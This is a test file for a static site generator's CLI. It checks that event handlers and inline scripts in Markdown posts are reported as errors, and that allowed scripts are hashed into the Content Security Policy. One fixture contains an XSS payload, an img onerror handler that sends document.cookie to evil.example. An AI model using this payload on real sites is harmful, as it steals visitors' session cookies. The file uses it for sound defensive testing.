import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, expect, test } from 'vitest'
import { cliBin, makeSite, removeSite } from '../helpers/site.js'

// Issue #16: content cannot widen the CSP by itself. An `on…=` handler in content is an error; an
// inline script in content is an error unless the config allows content scripts; `build` and
// `lint` both name them at file:line. Real command-line runs with the default plugins.

const roots: string[] = []
afterEach(() => {
  for (const root of roots.splice(0)) removeSite(root)
})

const post = (title: string, body: string) => `---\ntitle: ${title}\ndate: 2026-03-12\n---\n\n${body}\n`
const config = (consent: Record<string, unknown> = {}) =>
  JSON.stringify({ title: 'T', url: 'https://t.example', language: 'de', legal: { enabled: false }, affiliate: { enabled: false }, lint: { audit: 'off' }, consent })

function run(command: string, root: string) {
  const result = spawnSync(process.execPath, [cliBin, command, '--root', root], { encoding: 'utf8', timeout: 120_000, env: { ...process.env, NO_COLOR: '1' } })
  return { status: result.status, output: result.stdout + result.stderr }
}

// The report's lines for one file: from its header line to the next blank line.
function blockOf(output: string, file: string): string {
  const start = output.split('\n').findIndex((line) => line.endsWith(file))
  expect(start, output).toBeGreaterThan(-1)
  const lines = output.split('\n').slice(start + 1)
  const end = lines.findIndex((line) => line.trim() === '')
  return lines.slice(0, end === -1 ? undefined : end).join('\n')
}

const files = {
  'content/posts/handler.md': post('Handler', 'Ein Bild:\n\n<img src="/x.png" alt="x" onerror="fetch(\'https://evil.example/\'+document.cookie)">'),
  'content/posts/script.md': post('Script', 'Text.\n\n<script>console.log("guest")</script>'),
  'content/posts/fine.md': post('Fine', 'Nur Text.'),
}

test.each(['build', 'lint'])('%s: an event handler and an inline script in content are errors at their file and line', (command) => {
  const root = makeSite({ 'nichepress.config.json': config(), ...files })
  roots.push(root)
  const { status, output } = run(command, root)
  expect(status, output).toBe(1)
  expect(blockOf(output, 'content/posts/handler.md')).toMatch(/^\s+8:\d+\s+error\s.*consent-content-event-handler$/m)
  expect(blockOf(output, 'content/posts/script.md')).toMatch(/^\s+8:\d+\s+error\s.*consent-content-inline-script$/m)
})

test('with consent.allowContentScripts the script is let through and hashed into the CSP; an event handler is still an error', () => {
  const root = makeSite({ 'nichepress.config.json': config({ allowContentScripts: true }), ...files })
  roots.push(root)
  const refused = run('build', root)
  expect(refused.status, refused.output).toBe(1)
  expect(refused.output).toContain('consent-content-event-handler')
  expect(refused.output).not.toContain('consent-content-inline-script')

  const allowed = makeSite({ 'nichepress.config.json': config({ allowContentScripts: true }), 'content/posts/script.md': files['content/posts/script.md'] })
  roots.push(allowed)
  const built = run('build', allowed)
  expect(built.status, built.output).toBe(0)
  const headers = readFileSync(join(allowed, 'public/_headers'), 'utf8')
  const hash = `'sha256-${createHash('sha256').update('console.log("guest")').digest('base64')}'`
  const scriptSrc = /script-src ([^;\n]*)/.exec(headers)?.[1] ?? ''
  expect(scriptSrc).toContain(hash)
  expect(scriptSrc).not.toContain("'unsafe-inline'")
  expect(scriptSrc).not.toContain("'unsafe-hashes'")
})
